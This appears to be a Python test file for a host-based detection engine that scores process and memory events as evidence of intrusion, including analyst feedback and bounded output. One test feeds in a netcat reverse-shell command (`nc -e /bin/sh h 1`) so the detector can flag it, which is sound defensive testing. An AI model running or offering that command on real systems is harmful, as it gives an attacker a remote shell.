"""The domains joined: one record may be evidence in several."""

from collections.abc import Iterator

from hypothesis import given, settings
from hypothesis import strategies as st

from pyloader.evidence import Evidence, EvidenceStage, Group
from pyloader.host import Host, Lineage, Process
from pyloader.records import (
    AnyRecord,
    CallOrigin,
    MemoryAccess,
    MemoryFault,
    MemoryProtection,
    ProcessExec,
    ProcessExit,
    Record,
)
from tests.unit.evidence.stage import SECOND, Stage
from tests.unit.strategies import any_records, records_of

KINDS: tuple[type[Record], ...] = (
    MemoryProtection,
    MemoryAccess,
    MemoryFault,
    CallOrigin,
    ProcessExec,
    ProcessExit,
)
REMEMBERED = st.one_of(*map(records_of, KINDS))


def _few(record: AnyRecord, pid: int, start: int) -> AnyRecord:
    """Return a record of one of a few processes, so that records meet each other."""
    return type(record)(
        **{name: getattr(record, name) for name in record.__struct_fields__}
        | {"pid": pid, "start": start, "ppid": pid ^ 1}
    )


def test_execution_is_judged_by_both_domains(stage: Stage) -> None:
    """A program that is odd itself and is started after code was made has evidence of both, about child and parent."""
    process = stage.run(["app"], exe="/opt/app")
    stage.protect(process)
    stage.run(["nc", "-e", "/bin/sh", "h", "1"], process)

    assert {item.code for item in stage.last} >= {"relay_runs_program", "code_then_child"}


def test_what_was_learned_is_told_apart(stage: Stage) -> None:
    """What was learned is told by name, and refers to no process, no lineage, and to no time of this boot."""
    process = stage.run(["bash"])
    for _ in range(200):
        child = stage.run(["ls"], process)
        stage.protect(child)
        stage.exit(child)
    learned = stage.evidence.learned()

    assert set(learned) == {"customs", "destinations", "excuses", "failures", "habits", "trials"}
    for component in learned.values():
        assert not {Process, Lineage, Host} & set(map(type, _reached(component)))


def _reached(thing: object) -> Iterator[object]:
    """Yield everything that hangs on an object."""
    yield thing
    if isinstance(thing, dict):
        parts: list[object] = [*thing.keys(), *thing.values()]
    elif isinstance(thing, tuple | list | set | frozenset):
        parts = list(thing)
    else:
        names = getattr(type(thing), "__slots__", ()) or list(getattr(thing, "__dict__", ()))
        parts = [getattr(thing, name) for name in names]
    for part in parts:
        yield from _reached(part)


def test_excused_novelty_is_no_evidence_and_can_be_taken_back(stage: Stage) -> None:
    """What an analyst calls benign is no evidence in this context, until that is taken back."""
    cron = stage.run(["cron"])
    for _ in range(1_000):
        stage.run(["backup"], cron)
    stage.now += SECOND
    [item] = stage.items[stage.run(["sync"], cron).label]
    stage.evidence.closed(cron.lineage, quiet=False, now=stage.now)

    stage.evidence.teach(item.context, 20.0, stage.now)
    assert not stage.codes(stage.run(["sync"], cron))
    stage.evidence.teach(item.context, -20.0, stage.now)
    assert stage.codes(stage.run(["sync"], cron)) == {"new_child"}


def test_tables_are_told_by_name(stage: Stage) -> None:
    """No two tables of any domains have the same name."""
    evicted = stage.evidence.evicted

    assert {"programs", "customs", "downloads", "habits", "storms", "images", "lessons"} <= set(evicted)
    assert set(evicted.values()) == {0}


@settings(max_examples=50)
@given(st.lists(st.tuples(REMEMBERED, st.integers(1, 4), st.integers(1, 2)), max_size=25), st.lists(any_records))
def test_any_memory_records_are_judged(drawn: list[tuple[AnyRecord, int, int]], others: list[AnyRecord]) -> None:
    """No records, with whatever numbers for enumerations, upset the stage; weights and sentences are bounded."""
    records = [_few(*one) for one in drawn] + others
    said = []
    for _ in range(2):
        host, stage = Host(processes=3), EvidenceStage()
        words: list[Evidence] = []
        for record in records:
            process = host.apply(record)
            if process is not None:
                words += stage.assess(record, process, host)
        said.append([(item.code, item.nats, item.text) for item in words])
        for item in words:
            assert 0 < item.nats <= 12
            assert item.group in Group
            assert item.text.isprintable()
            assert len(item.text) < 500
    assert said[0] == said[1]
